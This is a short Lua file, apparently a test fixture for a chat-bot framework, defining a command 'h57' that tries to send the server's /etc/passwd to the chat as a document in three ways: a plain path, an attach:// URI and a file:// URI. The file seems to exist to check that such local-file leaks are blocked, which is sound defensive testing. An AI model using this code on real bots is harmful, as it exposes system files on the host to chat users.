-- A file of the machine as a document.
-- well: sent
return command "h57" {
  run = function(ctx)
    ctx.tg.sendDocument { document = "/etc/passwd" }
    ctx.tg.sendDocument { document = "attach:///etc/passwd" }
    ctx.tg.sendDocument { document = "file:///etc/passwd" }
    ctx:push(ctx.player.id, "commands.hostile.out", { words = "sent" })
  end,
}
